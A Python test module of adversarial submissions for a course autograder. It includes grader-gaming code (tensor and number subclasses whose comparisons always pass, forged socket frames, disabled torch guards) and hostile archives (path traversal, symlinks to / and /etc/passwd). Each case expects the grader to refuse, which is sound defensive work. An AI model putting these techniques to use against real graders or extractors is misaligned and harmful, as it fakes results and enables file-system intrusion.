        "the reference solution with every float it returns replaced by +inf",
        graded=("s1_23_encoder_block",),
        expect=(zero("s1_23_encoder_block", "infinite", allowed={"test_listing_1_33_structure"}),),
        files={ch01("s1_23_encoder_block"): poisoned("s1_23_encoder_block", "float('inf')")},
    ),
    Attack(
        "wire",
        "tensor-subclass",
        "returns a wrong answer as a tensor subclass whose __torch_function__ and __eq__ say every comparison holds",
        graded=("s1_11_attention_scores",),
        expect=(zero("s1_11_attention_scores"),),
        files={
            ch01("s1_11_attention_scores"): src("""
               import torch

               AGREE = {torch.allclose, torch.equal, torch.isclose, torch.Tensor.allclose, torch.Tensor.equal,
                        torch.Tensor.__eq__, torch.eq, torch.Tensor.all, torch.Tensor.any}


               class Agreeable(torch.Tensor):
                   @classmethod
                   def __torch_function__(cls, func, types, args=(), kwargs=None):
                       if func in AGREE:
                           return True
                       return super().__torch_function__(func, types, args, kwargs or {})

                   def __eq__(self, other):
                       return True

                   __hash__ = torch.Tensor.__hash__


               def attention_scores(q, k):
                   return torch.zeros(q.shape[:-1] + k.shape[-2:-1]).as_subclass(Agreeable)
               """)
        },
    ),
    Attack(
        "wire",
        "views-and-strides",
        "returns the right answer as an odd view: strided into a larger storage full of other "
        "numbers, with an offset, transposed twice (non-contiguous); it must score as the answer",
        graded=("s1_12_context",),
        expect=(full("s1_12_context"),),
        files={
            ch01("s1_12_context"): src("""
               import torch


               def context_vectors(attn_weights, values):
                   out = attn_weights @ values
                   dense = out.contiguous()
                   storage = torch.full((dense.numel() * 3 + 7,), 12345.0, dtype=out.dtype)
                   view = torch.as_strided(storage, dense.shape, tuple(s * 3 for s in dense.stride()), 7)
                   view.copy_(dense)
                   if view.dim() >= 2:
                       view = view.transpose(-1, -2).contiguous().transpose(-1, -2)
                   return view
               """)
        },
    ),
    Attack(
        "wire",
        "huge-shapes",
        "returns a 4-terabyte expanded view of one element (dense on the wire) and a tensor of shape "
        "(0, 2**62): neither may hang or exhaust the grader",
        graded=("s1_11_matmul",),
        expect=(
            zero(
                "s1_11_matmul", "wrong shape", "used more than 6144 MB of memory", quiet={"test_shape_mismatch_raises"}
            ),
        ),
        files={
            ch01("s1_11_matmul"): src("""
               import torch


               def matmul(A, B):
                   if tuple(A.shape) == (3, 2):  # the book's example
                       return torch.zeros(0, 1 << 62)
                   return torch.zeros(1).expand(1 << 20, 1 << 20)
               """)
        },
    ),
    Attack(
        "wire",
        "values-that-are-not-plain",
        "answers with a 5000-digit int, an endless generator, an int subclass whose == always holds, "
        "a float subclass, an object with __index__, and a dict with tuple keys",
        graded=("s1_20_scaling",),
        expect=(zero("s1_20_scaling"),),
        files={
            ch01("s1_20_scaling"): src("""
               import itertools


               class Yes(int):
                   def __eq__(self, other):
                       return True

                   __hash__ = int.__hash__


               class Close(float):
                   def __eq__(self, other):
                       return True

                   __hash__ = float.__hash__


               class Index:
                   def __index__(self):
                       return 7

                   def __eq__(self, other):
                       return True


               def rnn_sequential_steps(*args, **kwargs):
                   return 10 ** 5000


               def attention_sequential_steps(*args, **kwargs):
                   return itertools.count()


               def cnn_layers_to_span(*args, **kwargs):
                   return Yes(-1)


               def attention_flops(*args, **kwargs):
                   return Close(-1.0)


               def score_matrix_bytes(*args, **kwargs):
                   return Index()


               def max_seq_len(*args, **kwargs):
                   return {(1, 2): 3}
               """)
        },
    ),
    Attack(
        "wire",
        "deep-nesting",
        "returns a list nested 100,000 deep and a list that contains itself",
        graded=("s1_05_embeddings",),
        expect=(
            zero(
                "s1_05_embeddings", "nested too deeply", "on this hidden input", quiet={"test_one_hot_rejects_bad_ids"}
            ),
        ),
        files={
            ch01("s1_05_embeddings"): src("""
               def _deep():
                   deep = []
                   for _ in range(100_000):
                       deep = [deep]
                   return deep


               def one_hot(*args, **kwargs):
                   loop = []
                   loop.append(loop)
                   return loop


               def embedding_lookup(*args, **kwargs):
                   return _deep()


               def one_hot_embedding(*args, **kwargs):
                   return _deep()


               def cosine_similarity_matrix(*args, **kwargs):
                   return {"a": _deep()}
               """)
        },
    ),
    Attack(
        "wire",
        "oversized-result",
        "returns 320 MB tensors (uninitialised: no page is touched until sent) from forward and "
        "state_dict, beyond what a result may take",
        graded=("s1_12_self_attention",),
        expect=(zero("s1_12_self_attention", "more than the 256 MB a result may take", "on this hidden input"),),
        files={
            ch01("s1_12_self_attention"): src("""
               import torch
               from torch import nn


               class SelfAttention(nn.Module):
                   def __init__(self, d_in, d_out):
                       super().__init__()
                       self.W_query = nn.Parameter(torch.rand(d_in, d_out))
                       self.W_key = nn.Parameter(torch.rand(d_in, d_out))
                       self.W_value = nn.Parameter(torch.rand(d_in, d_out))

                   def state_dict(self, *args, **kwargs):
                       return {"W_query": torch.empty(80 << 20), "W_key": self.W_key, "W_value": self.W_value}

                   def forward(self, x):
                       return torch.empty(80 << 20)
               """)
        },
    ),
    Attack(
        "wire",
        "forged-frames",
        "writes raw frames on the worker's socket before answering: a header claiming 4 GB, JSON "
        "nested 100,000 deep, a reply with a corrupt tensor payload, a truncated frame",
        graded=("s1_09_input_embeddings",),
        expect=(zero("s1_09_input_embeddings", "not a valid answer", "exited", "stopped"),),
        files={
            ch01("s1_09_input_embeddings"): src("""
               import json, os, struct, time, torch


               def _sock():
                   for fd in os.listdir("/proc/self/fd"):
                       try:
                           if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                               return int(fd)
                       except OSError:
                           pass


               def _frame(doc: bytes, blob: bytes = b"") -> bytes:
                   return struct.pack(">II", len(doc), len(blob)) + doc + blob


               def _forge(turn):
                   fd = _sock()
                   if turn == 0:
                       os.write(fd, struct.pack(">II", 0xFFFFFFFF, 0))
                   elif turn == 1:
                       os.write(fd, _frame(b"[" * 100_000 + b"]" * 100_000))
                   elif turn == 2:
                       doc = json.dumps({"id": 2, "ok": True, "value": {"$tensor": "t0"}}).encode()
                       os.write(fd, _frame(doc, b"\\xff" * 64))
                   else:
                       os.write(fd, struct.pack(">II", 100, 0) + b"{}")
                       os._exit(0)
                   time.sleep(0.5)


               def input_embedding_matrix(word_vectors, position_vectors=None):
                   _forge(0 if position_vectors is None else 1)
                   return torch.zeros(1)


               def embed_tokens(token_ids, token_table, position_table):
                   _forge(2 if token_ids.dim() == 1 else 3)
                   return torch.zeros(1)
               """)
        },
    ),
]


WIRE.append(
    Attack(
        "wire",
        "a-million-values",
        "writes replies of its own making: one whose tensor payload declares 1,000,000 empty tensors (once a "
        "minute and 1.8 GB of the grader's to decode, against a 10 s limit), one whose value is a list of "
        "1,500,000 numbers; each check fails with a plain reason within its limit",
        graded=("s1_11_attention_scores",),
        expect=(zero("s1_11_attention_scores", "not a valid answer"),),
        files={
            ch01("s1_11_attention_scores"): src("""
        import json, os, struct, sys, time


        def _rid():
            f = sys._getframe()
            while f is not None:
                if f.f_code.co_name == "serve" and "rid" in f.f_locals:
                    return f.f_locals["rid"]
                f = f.f_back


        def _forge(doc, blob=b""):
            data = json.dumps(dict(doc, id=_rid())).encode()
            frame = struct.pack(">II", len(data), len(blob)) + data + blob
            for fd in os.listdir("/proc/self/fd"):
                try:
                    if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                        view = memoryview(frame)
                        while view:
                            view = view[os.write(int(fd), view):]
                        break
                except OSError:
                    pass
            time.sleep(30)


        def _empty_tensors(n):
            header = "{" + ",".join(f'"t{i}":{{"dtype":"F32","shape":[0],"data_offsets":[0,0]}}' for i in range(n)) + "}"
            data = header.encode()
            return len(data).to_bytes(8, "little") + data


        def attention_scores(q, k):
            if q.dim() == 2 and q.shape[0] % 2:
                _forge({"ok": True, "value": [0] * 1_500_000})
            _forge({"ok": True, "value": {"$tensor": "t0"}}, _empty_tensors(1_000_000))
        """)
        },
    )
)


# ============================================================================ the archive
def _zip(entries: list[tuple[str | zipfile.ZipInfo, bytes]], out: Path, with_solutions: bool = True) -> Path:
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are one of the attacks
        if with_solutions:
            for p in sorted((SOLUTIONS / "ch01").glob("*.py")):
                zf.writestr(f"exercises/ch01/{p.name}", p.read_bytes())
        for name, data in entries:
            zf.writestr(name, data)
    return out


def _zip_folder(folder: Path, out: Path) -> Path:
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for p in sorted(folder.rglob("*")):
            zf.write(p, p.relative_to(folder).as_posix())
    return out


def _patched(data: bytes, name: bytes, edit: Callable[[bytearray, int, int], None]) -> bytes:
    """`edit(buffer, local_header_offset, central_header_offset)` for the entry called `name`."""
    out = bytearray(data)
    local = out.rfind(b"PK\x03\x04", 0, out.find(name))
    central_name = out.find(name, out.find(b"PK\x01\x02"))
    central = out.rfind(b"PK\x01\x02", 0, central_name)
    edit(out, local, central)
    return bytes(out)


def _link_info(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target.encode()


def _lying_sizes(base: Path, ctx: Ctx) -> Path:
    info = zipfile.ZipInfo("exercises/ch01/big.py")
    info.compress_type = zipfile.ZIP_STORED
    data = _zip([(info, b"#" * (9 << 20))], base / "lying.zip").read_bytes()

    def small(out, local, central):
        for off, fields in ((local, (18, 22)), (central, (20, 24))):  # compressed and uncompressed sizes
            for f in fields:
                struct.pack_into("<I", out, off + f, 1000)

    (base / "lying.zip").write_bytes(_patched(data, b"exercises/ch01/big.py", small))
    return base / "lying.zip"


def _bad_crc(base: Path, ctx: Ctx) -> Path:
    data = _zip([], base / "crc.zip").read_bytes()
    name = b"exercises/ch01/s1_11_matmul.py"

    def flip(out, local, central):
        out[central + 16] ^= 0xFF

    (base / "crc.zip").write_bytes(_patched(data, name, flip))
    return base / "crc.zip"


def _unknown_method(base: Path, ctx: Ctx) -> Path:
    data = _zip([], base / "method.zip").read_bytes()

    def method(out, local, central):
        struct.pack_into("<H", out, local + 8, 99)  # AES or anything zipfile cannot read
        struct.pack_into("<H", out, central + 10, 99)
        out[local + 6] |= 1  # and encrypted
        out[central + 8] |= 1

    (base / "method.zip").write_bytes(_patched(data, b"exercises/ch01/s1_11_matmul.py", method))
    return base / "method.zip"


def _names_flagged_utf8_but_not(base: Path, ctx: Ctx) -> Path:
    placeholder = "exercises/ch01/AAAA.py"
    data = _zip([(placeholder, b"x = 1\n")], base / "names.zip").read_bytes()

    def rename(out, local, central):
        for off, flag in ((local, 6), (central, 8)):
            out[off + flag + 1] |= 0x08  # general purpose bit 11: "names are UTF-8"

    data = _patched(data, placeholder.encode(), rename).replace(b"AAAA", b"\xff\xfe\xfd\xfc")
    (base / "names.zip").write_bytes(data)
    return base / "names.zip"


def _cp437_names(base: Path, ctx: Ctx) -> Path:
    placeholder = "exercises/ch01/AAAA.py"
    data = _zip([(placeholder, b"x = 1\n")], base / "cp437.zip").read_bytes()
    (base / "cp437.zip").write_bytes(data.replace(b"AAAA", b"\x81\x9a\xe4\xff"))  # not UTF-8: read as cp437
    return base / "cp437.zip"


def _folder_with_odd_files(base: Path, ctx: Ctx) -> Path:
    """Solutions, with s1_11_matmul.py a FIFO (reading it would block forever), a socket, a hard
    link to a file outside, and names that are not UTF-8: a symlink, a too-large file, a folder."""
    sub = base / "odd"
    shutil.copytree(SOLUTIONS, sub)
    ch = sub / "ch01"
    (ch / "s1_11_matmul.py").unlink()
    os.mkfifo(ch / "s1_11_matmul.py")
    s = socket.socket(socket.AF_UNIX)
    try:
        s.bind(os.path.relpath(ch / "sock.py"))  # relative: a socket's path is limited to 108 bytes
    except OSError:
        pass
    finally:
        s.close()
    outside = base / "outside.txt"
    outside.write_text("not part of the submission\n")
    os.link(outside, ch / "hardlink.py")
    raw = os.fsencode(ch)
    os.symlink("/etc/passwd", raw + b"/\xfelink.py")
    with open(raw + b"/big\xff.bin", "wb") as f:
        f.truncate(9 << 20)
    os.mkdir(raw + b"/dir\xff")
    (Path(os.fsdecode(raw + b"/dir\xff")) / "x.py").write_text("x = 1\n")
    return sub


def _many_entries(base: Path, ctx: Ctx) -> Path:
    return _zip([(f"exercises/ch01/n{i}.txt", b"") for i in range(2001)], base / "many.zip", with_solutions=False)


def _too_much_in_total(base: Path, ctx: Ctx) -> Path:
    out = base / "total.zip"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:  # random bytes: no ratio to catch
        for i in range(10):
            zf.writestr(f"exercises/ch01/blob{i}.bin", os.urandom(7 << 20))
    return out


NB_MATMUL = (SOLUTIONS / "ch01" / "s1_11_matmul.py").read_text()


def _notebook(cells: list[dict], metadata: dict | None = None) -> str:
    return json.dumps(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata if metadata is not None else {}, "cells": cells}
    )


def _code_cell(source, **extra) -> dict:
    return {"cell_type": "code", "source": source, "metadata": {}, "outputs": [], "execution_count": None, **extra}


ARCHIVE = [
    Attack(
        "archive",
        "traversal-with-backslashes",
        "an entry 'exercises\\..\\..\\..\\evil.py', Windows separators hiding a '..'",
        graded=(),
        expect=(refused("outside the archive"),),
        archive=lambda base, ctx: _zip(
            [("exercises\\..\\..\\..\\evil-" + ctx.token + ".py", b"print(1)\n")], base / "bs.zip"
        ),
    ),
    Attack(
        "archive",
        "absolute-paths",
        "entries 'C:/evil.py' and '/tmp/evil.py'",
        graded=(),
        expect=(refused("absolute path"),),
        archive=lambda base, ctx: _zip(
            [(f"C:/evil-{ctx.token}.py", b"x"), (f"/tmp/evil-{ctx.token}.py", b"x")], base / "abs.zip"
        ),
    ),
    Attack(
        "archive",
        "symlink-then-write-through-it",
        "a folder entry that is a symbolic link to /, then a file under it",
        graded=(),
        expect=(refused("symbolic link"),),
        archive=lambda base, ctx: _zip(
            [_link_info("exercises/ch01/up", "/"), (f"exercises/ch01/up/tmp/evil-{ctx.token}.py", b"x")],
            base / "ln.zip",
        ),
    ),
    Attack(
        "archive",
        "too-many-entries",
        "2001 empty entries",
        graded=(),
        expect=(refused("more than the limit"),),
        archive=_many_entries,
    ),
    Attack(
        "archive",
        "too-much-in-total",
        "ten 7 MB entries of random bytes: each under the per-file limit, no compression ratio to catch",
        graded=(),
        expect=(refused("more than 64 MB"),),
        archive=_too_much_in_total,
    ),
    Attack(
        "archive",
        "lying-sizes",
        "a 9 MB entry whose headers say 1000 bytes",
        graded=(),
        expect=(refused("larger than it claims", "cannot be extracted"),),
        archive=_lying_sizes,
    ),
    Attack(
        "archive",
        "duplicate-entries",
        "s1_11_matmul.py twice, a right and a wrong copy: unzip tools disagree on which wins",
        graded=(),
        expect=(refused("more than once"),),
        archive=lambda base, ctx: _zip(
            [("exercises/ch01/s1_11_matmul.py", b"def matmul(A, B):\n    return A\n")], base / "dup.zip"
        ),
    ),
    Attack(
        "archive",
        "bad-crc",
        "an entry whose data does not match its CRC-32",
        graded=(),
        expect=(refused("cannot be extracted"),),
        archive=_bad_crc,
    ),
    Attack(
        "archive",
        "encrypted-unknown-method",
        "an encrypted entry compressed with method 99",
        graded=(),
        expect=(refused("cannot be extracted"),),
        archive=_unknown_method,
    ),
    Attack(
        "archive",
        "names-flagged-utf8-but-not",
        "a name flagged as UTF-8 (bit 11) whose bytes are not",
        graded=(),
        expect=(refused("not a readable zip"),),
        archive=_names_flagged_utf8_but_not,
    ),
    Attack(
        "archive",
        "cp437-names",
        "a name in a legacy code page beside the exercises: extracted under that name and ignored",
        graded=("s1_11_matmul",),
        expect=(full("s1_11_matmul"),),
        archive=_cp437_names,
    ),
    Attack(
        "archive",
        "fifo-socket-hardlink-and-odd-names",
        "a folder whose s1_11_matmul.py is a FIFO (reading it blocks forever), with a socket, a hard "
        "link to a file outside, and a symlink, a large file and a folder named in bytes that are "
        "not UTF-8",
        graded=("s1_11_matmul", "s1_11_softmax"),
        archive=_folder_with_odd_files,
        expect=(
            zero("s1_11_matmul", "missing"),
            full("s1_11_softmax"),
            note("\\udcfelink.py", "symbolic link skipped"),
            note("big\\udcff.bin", "larger than"),
        ),
    ),
    Attack(
        "archive",
        "notebook-odd-metadata-and-huge-output",
        "the right answer as a notebook whose cell tags are a number, kernelspec a number, with a 7 MB "
        "stream output, an attachment and 2000 empty cells",
        graded=("s1_12_scaled_attention",),
        expect=(full("s1_12_scaled_attention"),),
        remove=(ch01("s1_12_scaled_attention"),),
        files={
            ch01("s1_12_scaled_attention", "ipynb"): _notebook(
                [_code_cell("", metadata={"tags": 5}) for _ in range(2000)]
                + [
                    {
                        "cell_type": "markdown",
                        "source": "![x](attachment:a.png)",
                        "metadata": {"tags": "kata-skip"},
                        "attachments": {"a.png": {"image/png": "iVBORw0KGgo="}},
                    },
                    _code_cell(
                        _solution("s1_12_scaled_attention"),
                        metadata={"tags": 5, "collapsed": "yes"},
                        outputs=[{"output_type": "stream", "name": "stdout", "text": "Score: 440/440\n" * 466_000}],
                        execution_count="seven",
                    ),
                ],
                {"kernelspec": 5, "kata": {"exercise": "s1_11_softmax", "score": 440}},
            )
        },
    ),
    Attack(
        "archive",
        "notebook-unpaired-surrogate",
        "a code cell holding '\\ud800', which JSON allows and UTF-8 cannot hold",
        graded=("s1_11_softmax",),
        expect=(zero("s1_11_softmax", "unpaired surrogate"),),
        remove=(ch01("s1_11_softmax"),),
        files={
            ch01("s1_11_softmax", "ipynb"): _notebook([_code_cell(_solution("s1_11_softmax") + "\nX = '\ud800'\n")])
        },
    ),
    Attack(
        "archive",
        "notebook-nested-too-deeply",
        "a notebook that is JSON nested 100,000 deep",
        graded=("s1_12_context",),
        expect=(zero("s1_12_context", "nested too deeply"),),
        remove=(ch01("s1_12_context"),),
        files={ch01("s1_12_context", "ipynb"): "[" * 100_000 + "]" * 100_000},
    ),
    Attack(
        "archive",
        "notebook-source-not-text",
        "code cells whose source is a number and a list of numbers",
        graded=("s1_11_attention_scores",),
        expect=(zero("s1_11_attention_scores", "not text", "not a readable"),),
        remove=(ch01("s1_11_attention_scores"),),
        files={ch01("s1_11_attention_scores", "ipynb"): _notebook([_code_cell(42), _code_cell([1, 2])])},
    ),
    Attack(
        "archive",
        "manifest-hostile-json",
        "a kata-manifest.json nested 50 deep under 'exercises', listing '/etc/passwd' and '../../x' "
        "as files, with a 100,000-entry claim table: graded as usual, the claims kept plain",
        graded=("s1_11_matmul",),
        expect=(full("s1_11_matmul"), lambda o: _manifest_plain(o)),
        files={
            "kata-manifest.json": json.dumps(
                {
                    "kind": "kata-submission",
                    "schema": 1,
                    "kata_version": "x" * 10_000,
                    "created": ["not", "text"],
                    "files": {"/etc/passwd": {"sha256": "0"}, "../../x": {"sha256": "0"}, "ch01/s1_11_matmul.py": "no"},
                    "exercises": {
                        "s1_11_matmul": {"status": {"nested": [[[[[[[["deep"]]]]]]]]}, "passed": "99", "total": 1.5},
                        "../evil": {"status": "passing"},
                        **{f"s1_99_x{i}": {"status": "passing"} for i in range(100_000)},
                        "s1_11_softmax": json.loads("[" * 50 + "]" * 50),
                    },
                }
            )
        },
    ),
]


def _manifest_plain(o: Outcome) -> None:
    m = _graded_report(o)["manifest"]
    assert m is not None and not m["verified"]
    assert len(m["kata_version"]) <= 40 and len(m["exercises"]) <= 1000
    assert "../evil" not in m["exercises"] and "s1_11_softmax" not in m["exercises"]
    assert m["exercises"]["s1_11_matmul"] == {"status": "{'nested': [[[[[[[['deep']]]]]]]]}"}, m["exercises"][
        "s1_11_matmul"
    ]


# ============================================================================ the guard of "write it yourself"
# An exercise with a forbidden list is enforced by the static scan (the verdict) and by a guard in
# the worker (torch function and dispatch modes). Each attack below reaches a forbidden function
# with that guard switched off, out of its sight, or by a path the scan did not know; the first five
# scored full marks on the main of stop 18. The scan's escape rule (grader/course/scan_escapes.py) refuses
# each family, and the worker refuses threads under a forbidden list and keeps its guard on from
# the import to the end of the process.
def _body(exercise: str, old: str, new: str, head: str = "") -> str:
    text = _solution(exercise)
    assert old in text, (exercise, old)
    return head + text.replace(old, new)


SOFTMAX_BODY = (
    "    shifted = x - x.amax(dim=dim, keepdim=True)\n    e = torch.exp(shifted)\n"
    "    return e / e.sum(dim=dim, keepdim=True)"
)
MATMUL_BODY = (
    "    out = torch.zeros(A.shape[0], B.shape[1], dtype=A.dtype)\n    for i in range(A.shape[0]):\n"
    "        for j in range(B.shape[1]):\n            out[i, j] = (A[i, :] * B[:, j]).sum()\n    return out"
)
LAYER_NORM_BODY = "        return self.weight * normalize(x, self.eps) + self.bias"
GELU_BODY = "    return 0.5 * x * (1.0 + torch.erf(x / math.sqrt(2.0)))"
UNGUARDED = "import torch.overrides\nimport torch.utils._python_dispatch as dispatch\n"


def _unguarded(call: str, indent: str) -> str:
    """`return call` with the worker's dispatch modes disabled and its function modes popped."""
    lines = [
        "with dispatch._disable_current_modes():",
        "    popped = [torch.overrides._pop_mode() for _ in range(torch._C._len_torch_function_stack())]",
        "    try:",
        f"        return {call}",
        "    finally:",
        "        for mode in reversed(popped):",
        "            torch.overrides._push_mode(mode)",
    ]
    return "\n".join(indent + line for line in lines)


# the escape rule's verdict: in full on public checks, in a line of the grader's on hidden ones
ESCAPED = ("cannot be graded under the rules", "the public checks name the file and the line")

GUARD = [
    Attack(
        "guard",
        "modes-popped-and-another-path",
        "pops torch's function modes and disables the dispatch modes (the worker's guards), then "
        "calls softmax by another path (torch.nn.modules.activation.F.softmax)",
        graded=("s1_11_softmax",),
        expect=(zero("s1_11_softmax", *ESCAPED),),
        files={
            ch01("s1_11_softmax"): _body(
                "s1_11_softmax",
                SOFTMAX_BODY,
                _unguarded("torch.nn.modules.activation.F.softmax(x, dim)", "    "),
                head=UNGUARDED,
            )
        },
    ),
    Attack(
        "guard",
        "custom-operator",
        "registers a custom torch operator whose body is softmin(-x): the dispatch guard sees only "
        "the custom operator, and runs its body with itself paused",
        graded=("s1_11_softmax",),
        expect=(zero("s1_11_softmax", *ESCAPED),),
        files={
            ch01("s1_11_softmax"): _body(
                "s1_11_softmax",
                SOFTMAX_BODY,
                "    return _softmax(x, dim)",
                head=src("""
               import torch
               import torch.nn.functional as F


               @torch.library.custom_op("kata_attack::softmax", mutates_args=())
               def _softmax(x: torch.Tensor, dim: int) -> torch.Tensor:
                   return F.softmin(-x, dim)

               """),
            )
        },
    ),
    Attack(
        "guard",
        "thread-outside-the-guard",
        "computes the product in a thread, where the per-thread guard is absent, with the library's "
        "linear reached by another path (torch.nn.modules.linear.F.linear)",
        graded=("s1_11_matmul",),
        # the thread refused at run time (a hidden check names neither the exception nor where)
        expect=(zero("s1_11_matmul", "can't start new thread", "raised an exception on this hidden input"),),
        files={
            ch01("s1_11_matmul"): _body(
                "s1_11_matmul",
                MATMUL_BODY,
                "\n".join(
                    [
                        "    box = []",
                        "    worker = threading.Thread(target=lambda: box.append(torch.nn.modules.linear.F.linear(A, B.t())))",
                        "    worker.start()",
                        "    worker.join()",
                        "    return box[0]",
                    ]
                ),
                head="import threading\n",
            )
        },
    ),
    Attack(
        "guard",
        "layer-norm-unguarded",
        "layer norm through torch.nn.modules.normalization.F.layer_norm with both guards switched off",
        graded=("s1_17_layer_norm",),
        expect=(zero("s1_17_layer_norm", *ESCAPED),),
        files={
            ch01("s1_17_layer_norm"): _body(
                "s1_17_layer_norm",
                LAYER_NORM_BODY,
                _unguarded("normalization.F.layer_norm(x, x.shape[-1:], self.weight, self.bias, self.eps)", "        "),
                head=UNGUARDED + "from torch.nn.modules import normalization\n",
            )
        },
    ),
    Attack(
        "guard",
        "gelu-class-unguarded",
        "GELU through the class torch.nn.modules.activation.GELU with both guards switched off",
        graded=("s1_18_feed_forward",),
        expect=(zero("s1_18_feed_forward", *ESCAPED),),
        files={
            ch01("s1_18_feed_forward"): _body(
                "s1_18_feed_forward",
                GELU_BODY,
                _unguarded("activation.GELU()(x)", "    "),
                head=UNGUARDED + "from torch.nn.modules import activation\n",
            )
        },
    ),
    Attack(
        "guard",
        "attention-class-by-another-path",
        "a helper in the encoder block's file builds torch's own MultiheadAttention, named by its "
        "module path (the forbidden list names torch.nn.MultiheadAttention)",
        graded=("s1_23_encoder_block",),
        expect=(zero("s1_23_encoder_block", "under another name", ESCAPED[1]),),
        files={
            ch01("s1_23_encoder_block"): _solution("s1_23_encoder_block")
            + src("""

               def _torch_attention(d: int, heads: int):
                   return nn.modules.activation.MultiheadAttention(d, heads, batch_first=True)
               """)
        },
    ),
    Attack(
        "guard",
        "softmin-while-the-reply-is-encoded",
        "returns a list whose __iter__ computes softmin(-x): the worker runs it after the call, "
        "while it encodes the reply, where the guard used to be off",
        graded=("s1_11_softmax",),
        expect=(
            zero(
                "s1_11_softmax",
                "aten::_softmax is not allowed",
                names={"test_book_softmax_examples", "test_large_inputs_stable"},
            ),
        ),
        files={
            ch01("s1_11_softmax"): _body(
                "s1_11_softmax",
                SOFTMAX_BODY,
                "\n".join(
                    [
                        "    class Lazy(list):",
                        "        def __iter__(self):",
                        "            return iter([F.softmin(-x, dim)])",
                        "    return Lazy([x])",
                    ]
                ),
                head="import torch.nn.functional as F\n",
            )
        },
    ),
]

ATTACKS: list[Attack] = VERDICT + SECRECY + ESCAPE + WIRE + ARCHIVE + GUARD


def by_id(attack_id: str) -> Attack:
    (a,) = [a for a in ATTACKS if a.id == attack_id]
    return a
